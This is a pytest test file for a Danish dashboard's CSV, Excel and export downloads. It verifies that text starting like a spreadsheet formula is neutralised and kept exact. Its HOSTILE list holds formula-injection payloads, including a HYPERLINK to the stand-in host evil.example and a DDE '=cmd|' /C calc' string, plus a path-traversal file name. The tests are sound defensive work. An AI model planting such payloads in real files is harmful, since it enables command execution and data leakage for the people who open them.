"""Downloads: every view's CSV (two dialects) and Excel, and `itraad export`, open in a spreadsheet
without running anything; numbers stay numbers; names, links and times are right (issues 10, 11)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import given, settings, strategies as st

from dashboard import downloads
from dashboard.text import JOINER

# A cell beginning with one of these is read as a formula by a spreadsheet (OWASP).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?x","klik")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]


def csv_cells(data: bytes) -> tuple[list[list[str]], list[list[str]]]:
    """A downloaded CSV as raw cells, the way a spreadsheet splits it: (the '#' lines, the table)."""
    text = data.decode("utf-8-sig")
    header_row = next(line for line in text.split("\r\n") if not line.startswith(("#", '"#')))
    delimiter = ";" if header_row.count(";") > header_row.count(",") else ","
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    about = [r for r in rows if len(r) == 1 and r[0].startswith("#")]
    return about, rows[len(about):]


# A number is read as a number, also when negative; only text can be a formula.
NUMBER = re.compile(r"^-?[0-9]+([.,][0-9]+)?([eE][-+]?[0-9]+)?$")


def assert_inert_csv(data: bytes) -> None:
    about, table = csv_cells(data)
    for row in about + table:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or NUMBER.match(cell), (cell, row)


def assert_inert_excel(data: bytes) -> openpyxl.Workbook:
    """No formula anywhere in the workbook; every text is a text cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode() and "<f " not in archive.read(name).decode()
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
    return book


# --- the rule --------------------------------------------------------------------------------

@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_restores_exactly(text):
    cell = downloads.neutralise(text)
    assert not cell.startswith(DANGEROUS) and not cell.startswith(("＝", "＋", "－", "＠", "\n", "\x00"))
    assert downloads.restore_text(cell) == text


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.text(st.characters(blacklist_categories=["Cs"])),
                          st.floats(allow_nan=False, allow_infinity=False, width=32)), min_size=1, max_size=6),
       st.booleans())
def test_csv_reads_back_to_the_same_text_and_numbers(rows, semicolon):
    frame = pd.DataFrame(rows, columns=["Tekst", "Tal"])
    data = downloads.to_csv(frame, "Titel", [("Søg", "a,b;c\n=d")], semicolon=semicolon)
    assert_inert_csv(data)
    about, back = downloads.read_csv(data)
    assert back["Tekst"].tolist() == frame["Tekst"].tolist()
    numbers = back["Tal"].str.replace(",", ".") if semicolon else back["Tal"]
    assert [float(n) for n in numbers] == pytest.approx(frame["Tal"].tolist())
    assert "Søg: a,b;c =d" in about


def test_excel_cells_are_text_with_the_exact_value_and_numbers_stay_numbers():
    frame = pd.DataFrame({"Navn": HOSTILE, "Beløb": [-1.5, -2, 0, 3.25, -7, 1e6, -0.1],
                          "Åbn": ["https://raad.example/projekt?id=a"] * 7})
    book = assert_inert_excel(downloads.to_excel(frame, "Portefølje", [("Søg", "=1+1")], "en",
                                                 link_columns=["Åbn"]))
    data, about = book.worksheets
    assert [c.value for c in data[1]] == ["Navn", "Beløb", "Åbn"]
    # Exactly what was stored (the standard library's XML parser reads a lone carriage return as a
    # line feed, lxml keeps it: which one openpyxl uses depends on whether lxml is installed).
    assert [c.value.replace("\r", "\n") for c in data["A"][1:]] == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.quotePrefix for c in data["A"][1:])                         # Excel's "this is text" mark
    assert [c.value for c in data["B"][1:]] == [-1.5, -2, 0, 3.25, -7, 1e6, -0.1]
    assert {c.data_type for c in data["B"][1:]} == {"n"}                     # negative numbers are numbers
    assert data["C2"].hyperlink.target == "https://raad.example/projekt?id=a"
    assert data.freeze_panes == "A2"                                         # the header row stays in view
    assert data.column_dimensions["A"].width >= len(HOSTILE[0])
    assert data.column_dimensions["C"].width > 8
    assert about.title == "Filters"                                          # English mode (issue 10)
    rows = {r[0].value: r[1].value for r in about.iter_rows()}
    assert rows["Søg"] == "=1+1" and rows["View"] == "Portefølje"
    assert rows["Times"] == "Danish time (Europe/Copenhagen)"


def test_times_are_danish_with_the_zone_stated():
    winter = dt.datetime(2026, 12, 1, 13, 5, tzinfo=dt.timezone.utc)
    summer = dt.datetime(2026, 7, 1, 13, 5, tzinfo=dt.timezone.utc)
    assert downloads.generated_text(winter) == "2026-12-01 14:05 CET (Europe/Copenhagen)"
    assert downloads.generated_text(summer) == "2026-07-01 15:05 CEST (Europe/Copenhagen)"
    frame = pd.DataFrame({"Indberettet": pd.to_datetime(["2024-03-31 22:30"]).tz_localize("UTC")})
    about, back = downloads.read_csv(downloads.to_csv(frame, "Status", [], generated=winter))
    assert back["Indberettet"].tolist() == ["2024-04-01 00:30"]              # Danish summer time
    assert "Hentet: 2026-12-01 14:05 CET (Europe/Copenhagen)" in about
    sheet = openpyxl.load_workbook(io.BytesIO(downloads.to_excel(frame, "Status", []))).worksheets[0]
    assert sheet["A2"].value == dt.datetime(2024, 4, 1, 0, 30)


def test_semicolon_csv_is_what_danish_excel_opens():
    frame = pd.DataFrame({"Projekt": ["Fælles Sundhedsjournal", "a;b"], "Andel": [28.6, -4.0]})
    data = downloads.to_csv(frame, "Anbefalinger", [("Fra", "2020-01")], semicolon=True)
    assert data.startswith("\ufeff".encode("utf-8"))                         # UTF-8 with BOM
    lines = data.decode("utf-8-sig").split("\r\n")
    assert "Projekt;Andel" in lines and "Fælles Sundhedsjournal;28,6" in lines and '"a;b";-4' in lines


def test_file_names_keep_the_danish_letters():
    assert downloads.file_name("Portefølje", "csv") == "portefølje.csv"
    assert downloads.file_name("Pipeline 2024", "xlsx") == "pipeline-2024.xlsx"
    assert downloads.file_name("Åbne anbefalinger", "csv", "semikolon") == "åbne-anbefalinger-semikolon.csv"
    assert downloads.file_name('../"x"\\/:*?', "csv") == "x.csv"
    assert downloads.file_name("", "csv") == "udtraek.csv"


def test_relative_links_become_absolute_under_the_apps_address():
    frame = pd.DataFrame({"Åbn": ["projekt?id=luna&lang=da", None, "https://andet.example/x"]})
    out = downloads.absolute_links(frame, ["Åbn"], "https://intra.example/raad/")
    assert out["Åbn"].tolist()[0] == "https://intra.example/raad/projekt?id=luna&lang=da"
    assert out["Åbn"].tolist()[2] == "https://andet.example/x"


# --- every view's downloads, from the pages ---------------------------------------------------

@pytest.fixture
def hostile_data(db):
    """The demo data, with every project name, short name, status explanation, reporter and
    recommendation and identified risk text starting like a formula."""
    from dashboard.demo import load_demo

    with db.begin() as conn:
        load_demo(conn)
        conn.execute(sa.text("UPDATE project SET name = '=' || name, short_name = '+' || short_name"))
        conn.execute(sa.text("UPDATE status_report SET reported_by = '@' || reported_by, "
                             "deliveries_note = '-' || deliveries_note, time_note = '=' || time_note, "
                             "money_note = '+' || money_note, resources_note = '@' || resources_note"))
        conn.execute(sa.text("UPDATE recommendation SET text = '=' || text"))
        conn.execute(sa.text("UPDATE identified_risk SET text = '-' || text"))
    return db


VIEWS = [("portefolje.py", {}), ("pipeline.py", {"aar": "2024"}),
         ("projekt.py", {"id": "luna", "fane": "aktiviteter"}), ("projekt.py", {"id": "luna", "fane": "anbefalinger"}),
         ("status.py", {"visning": "aarsager", "fokusomraade": "project_planning"}),
         ("status.py", {"visning": "advarsler", "n": "2"}),
         ("status.py", {"visning": "aendringer", "siden": "2020-01-01"}),
         ("anbefalinger.py", {"visning": "anbefalinger"}), ("anbefalinger.py", {"visning": "opfoelgning"}),
         ("anbefalinger.py", {"visning": "risici"}),
         ("screening.py", {"visning": "skal-vurderes"}), ("screening.py", {"visning": "figur-5"}),
         ("sager.py", {}), ("sager.py", {"frister": "ja"})]


def test_every_download_of_every_view_opens_without_running_anything(hostile_data, monkeypatch):
    from streamlit.elements.widgets.button import ButtonMixin

    from apptest import open_app

    offered: list[dict] = []

    def record(self, label, data, file_name=None, mime=None, **kwargs):
        offered.append({"label": label, "data": data, "file_name": file_name})
        return False

    monkeypatch.setattr(ButtonMixin, "download_button", record)
    for page, query in VIEWS:
        before = len(offered)
        at = open_app(page, timeout=120, **query)
        assert not at.exception, (page, query)
        assert len(offered) > before, f"no download on {page} {query}"

    csv_files = [o for o in offered if o["file_name"].endswith(".csv")]
    excel_files = [o for o in offered if o["file_name"].endswith(".xlsx")]
    assert len(excel_files) >= len(VIEWS) and len(csv_files) == 2 * len(excel_files)
    seen_hostile = 0
    for item in offered:
        content = item["data"]() if callable(item["data"]) else item["data"]
        if item["file_name"].endswith(".csv"):
            assert_inert_csv(content)
            about, table = downloads.read_csv(content)
            assert any(line.startswith("Link: ") for line in about), item["file_name"]
            assert any(line.startswith("Hentet: ") and "(Europe/Copenhagen)" in line for line in about)
            seen_hostile += any(str(v).startswith(("=", "+", "-", "@")) for v in table.to_numpy().ravel())
        else:
            book = assert_inert_excel(content)
            values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
            seen_hostile += any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)
            assert book.worksheets[0].freeze_panes == "A2" and book.worksheets[1].title == "Filtre"
    assert seen_hostile == len(offered)   # each file held hostile text, kept exact and inert


# --- itraad export ------------------------------------------------------------------------------

def test_export_neutralises_text_and_reads_back_exactly(db, db_url, tmp_path):
    from dashboard.db.connection import connect
    from dashboard.export import export

    with db.begin() as conn:
        conn.execute(sa.text("UPDATE project SET name = :n WHERE slug = 'luna'"), {"n": HOSTILE[0]})
        conn.execute(sa.text("UPDATE project SET short_name = '-LUNA' WHERE slug = 'luna'"))
    with connect(db_url) as conn:
        export(conn, tmp_path)
    raw = list(csv.reader((tmp_path / "projects.csv").open(encoding="utf-8", newline="")))
    luna = next(r for r in raw if r[0] == "luna")
    assert luna[1] == "'" + HOSTILE[0] and luna[2] == "'-LUNA"
    for name in ("projects.csv", "activities.csv", "recommendation_shares.csv"):
        for row in csv.reader((tmp_path / name).open(encoding="utf-8", newline="")):
            assert not any(cell.startswith(DANGEROUS) and not NUMBER.match(cell) for cell in row), (name, row)
    assert [downloads.restore_text(c) for c in luna[1:3]] == [HOSTILE[0], "-LUNA"]
    shares = list(csv.DictReader((tmp_path / "recommendation_shares.csv").open(encoding="utf-8", newline="")))
    assert {s["share_pct"] for s in shares} >= {"35", "28"} and shares[0]["total_count"] == "105"


# --- in a real browser -------------------------------------------------------------------------

def _download(viewer, label: str):
    with viewer.page.expect_download() as download:
        viewer.page.get_by_role("button", name=label, exact=True).click()
    return download.value.suggested_filename, download.value.path().read_bytes()


@pytest.mark.browser
def test_portfolio_downloads_in_a_browser_open_where_they_point(open_viewer, db):
    """Chromium saves portefølje.csv / portefølje-semikolon.csv / portefølje.xlsx; the Excel file's
    Åbn link opens the project in a fresh browser; hostile text stays inert; English says Filters."""
    from dashboard.i18n import t

    with db.begin() as conn:
        conn.execute(sa.text("UPDATE project SET name = :n WHERE slug = 'luna'"), {"n": HOSTILE[0]})
    director = open_viewer("direktor")
    director.open("/portefolje?soeg=HYPERLINK")
    director.shot("portefolje")
    names = {}
    for label in (t("common.download_csv"), t("downloads.csv_semicolon"), t("common.download_excel")):
        name, content = _download(director, label)
        names[label] = name
        if name.endswith(".xlsx"):
            workbook = content
        elif "semikolon" in name:
            semicolon = content
        else:
            standard = content
    assert sorted(names.values()) == ["portefølje-semikolon.csv", "portefølje.csv", "portefølje.xlsx"]

    assert_inert_csv(standard)
    assert_inert_csv(semicolon)
    about, rows = downloads.read_csv(semicolon)
    assert rows[t("columns.name")].tolist() == [HOSTILE[0]]
    assert any(line.startswith("Hentet: ") and "(Europe/Copenhagen)" in line for line in about)
    link_line = next(line for line in about if line.startswith("Link: "))
    assert link_line.startswith(f"Link: {director.server.url}/portefolje?") and "soeg=HYPERLINK" in link_line

    book = assert_inert_excel(workbook)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    luna = [c.value for c in sheet[2]]
    assert luna[header.index(t("columns.name"))] == HOSTILE[0]
    link = luna[header.index(t("columns.link"))]
    assert link == f"{director.server.url}/projekt?id=luna&fane=oversigt&lang=da"
    assert sheet.freeze_panes == "A2" and book.worksheets[1].title == "Filtre"

    elsewhere = open_viewer("andet-sted")          # the link from the file, in a fresh browser
    elsewhere.page.goto(link, wait_until="domcontentloaded")
    elsewhere.wait_for_run(0)
    elsewhere.shot("projekt-fra-fil")
    # The title shows the name as typed (dashboard.text puts an invisible joiner where an address begins).
    assert elsewhere.main().locator("h1").first.inner_text().strip().replace(JOINER, "") == HOSTILE[0]
    assert elsewhere.exceptions() == []

    english = open_viewer("english")
    english.open("/portefolje?lang=en")
    name, content = _download(english, t("common.download_excel", "en"))
    assert name == "portfolio.xlsx"
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["Data", "Filters"]
